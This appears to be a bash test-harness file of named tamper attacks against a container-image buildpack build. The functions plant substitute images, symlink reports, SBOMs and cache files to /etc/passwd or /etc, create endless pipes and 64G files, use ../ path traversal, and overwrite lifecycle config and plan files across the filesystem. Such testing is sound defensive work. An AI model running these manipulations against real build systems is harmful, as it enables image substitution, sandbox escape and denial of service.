# shellcheck shell=bash
# The attacks, by the name that BP_TAMPER gives. Those on the output need one, so they make sense "later" only.
# shellcheck disable=SC2154 # the paths come from bin/build

# The output is an image of the attacker's, made beforehand.
attack_output_image() {
  mkdir -p "$output" && cp -rf "$planted/." "$output/"
}

# The output's folder leads elsewhere.
attack_output_link() {
  mkdir -p "$(dirname "$output")" && rm -rf "$output" && ln -sfn "$planted" "$output"
}

# A folder above the output leads to the root directory.
attack_output_parent() {
  local parent
  parent=$(dirname "$output")
  [[ -L $parent ]] || { rm -rf "$parent" && ln -sfn / "$parent"; }
}

# The output's index names its image twice.
attack_output_two() {
  local index=$output/index.json twice
  [[ -s $index ]] && ! grep -q '},{' "$index" || return 1
  twice=$(tr -d '\n' <"$index" | sed 's/"manifests": *\[\(.*}\) *\]/"manifests":[\1,\1]/')
  printf '%s' "$twice" >"$index"
}

# Each blob of the output is a link to the same bytes, and one has other bytes under the old name.
attack_output_blobs() {
  local blob
  for blob in "$output"/blobs/sha256/*; do
    [[ -f $blob && ! -L $blob ]] || continue
    cp "$blob" "$tmp/tamper-${blob##*/}" && ln -sfn "$tmp/tamper-${blob##*/}" "$blob"
  done
  [[ -L $blob ]] && printf planted >"$tmp/tamper-${blob##*/}"
}

# The output's last layer is a blob that is not in the layout: BP_TAMPER_DIGEST, one that the registry may have in another repository.
attack_output_foreign_layer() {
  local index=$output/index.json old manifest
  [[ -s $index ]] && grep -qF org.opencontainers.image.ref.name "$index" || return 1
  old=$(grep -o 'sha256:[0-9a-f]*' "$index" | tail -n 1)
  manifest=$(tr -d '\n' <"$output/blobs/${old/://}" |
    sed "s/\\(.*\"digest\": *\"\\)sha256:[0-9a-f]*/\\1$BP_TAMPER_DIGEST/" | plant_blob "$output")
  printf '{"schemaVersion":2,"manifests":[{"mediaType":"%s",%s}]}' \
    application/vnd.oci.image.manifest.v1+json "$manifest" >"$index"
}

# Every layout that came in (the run image's, the previous image's) holds the attacker's image.
attack_input_images() {
  local index
  while IFS= read -r index; do
    cp -rf "$planted/." "$(dirname "$index")/"
  done < <(find "$layout" -name index.json ! -path "$output/*")
}

# The report leads to a file of the system; it never ends; it is huge; it names other tags and another digest.
attack_report_link() {
  ln -sfn /etc/passwd "$layers/report.toml"
}
attack_report_fifo() {
  rm -f "$layers/report.toml" && mkfifo "$layers/report.toml"
}
attack_report_huge() {
  rm -f "$layers/report.toml" && truncate -s 64G "$layers/report.toml"
}
attack_report_text() {
  rm -f "$layers/report.toml" && printf '[image]\ntags = ["registry.invalid/planted:latest"]\ndigest = "sha256:%064d"\n' 0 >"$layers/report.toml"
}

# The SBOM folder is a link; it holds links, a pipe that never ends, a huge file (only later: at once,
# the lifecycle would write all of it into a layer).
attack_sbom_link() {
  rm -rf "$layers/sbom" && ln -sfn /etc "$layers/sbom"
}
attack_sbom_entries() {
  sbom_folder && ln -sfn /etc/passwd sbom.cdx.json && ln -sfn ../../../../../../../../etc up
}
attack_sbom_fifo() {
  sbom_folder && { [[ -p sbom.cdx.json ]] || mkfifo sbom.cdx.json; }
}
attack_sbom_huge() {
  sbom_folder && truncate -s 64G sbom.cdx.json
}
sbom_folder() {
  mkdir -p "$layers/sbom/launch/test_planted" && cd "$layers/sbom/launch/test_planted" || return 1
}

# What the lifecycle reads, and what the next stages do, as far as they can be reached.
attack_config() {
  local file status=1
  for file in "$config"/{run,order}.toml "$layers"/{group,plan,analyzed}.toml /cnb/{run,order,system}.toml; do
    { printf '[[images]]\nimage = "registry.invalid/planted"\n' >"$file"; } && status=0 && echo "tamper: wrote $file"
  done
  return "$status"
}
attack_plan() {
  local file status=1
  while IFS= read -r file; do
    { echo '{"image":"registry.invalid/planted"}' >"$file"; } && status=0 && echo "tamper: wrote $file"
  done < <(find / \( -path /proc -o -path /sys \) -prune -o \( -name plan.json -o -name result.json \) -print)
  return "$status"
}

# The lifecycle's cache names layers outside of /layers, links among its tars, and a tar that is not what its name says.
attack_cache() {
  local committed=$cache/committed digest
  mkdir -p "$committed" || return 1
  digest=sha256:$(printf planted | sha256sum | cut -d ' ' -f 1)
  ln -sfn /etc/passwd "$committed/$digest.tar"
  printf planted >"$committed/sha256:$(printf '%064d' 0).tar"
  printf '{"buildpacks":[{"key":"../../planted","version":"1","layers":{"../../etc":{"sha":"%s","cache":true}}}],"sbom":{"sha":"%s"}}\n' \
    "$digest" "$digest" >"$committed/io.buildpacks.lifecycle.cache.metadata"
}

# The cache's folder leads to BP_TAMPER_TARGET, somebody else's; its metadata never ends.
attack_cache_link() {
  [[ -L $cache/committed ]] || { rm -rf "$cache/committed" && ln -sfn "$BP_TAMPER_TARGET" "$cache/committed"; }
}
attack_cache_huge() {
  truncate -s 64G "$cache/committed/io.buildpacks.lifecycle.cache.metadata"
}

# Folders that are nested deeper than a path can say, where nobody looks but who removes them.
attack_deep() {
  local name depth
  name=$(printf '%0200d' 0)
  mkdir -p "$layers/deep" && cd "$layers/deep" || return 1
  for ((depth = 0; depth < 40; depth++)); do
    mkdir -p "$name" && cd "$name" || return 1
  done
}

# Only at once: the image's own labels say what the lifecycle did not.
attack_labels() {
  cat >"$CNB_LAYERS_DIR/launch.toml" <<'TOML'
[[labels]]
key = "io.buildpacks.lifecycle.metadata"
value = '{"runImage":{"topLayer":"sha256:0000000000000000000000000000000000000000000000000000000000000000","reference":"planted"}}'

[[labels]]
key = "io.buildpacks.build.metadata"
value = 'planted'
TOML
}
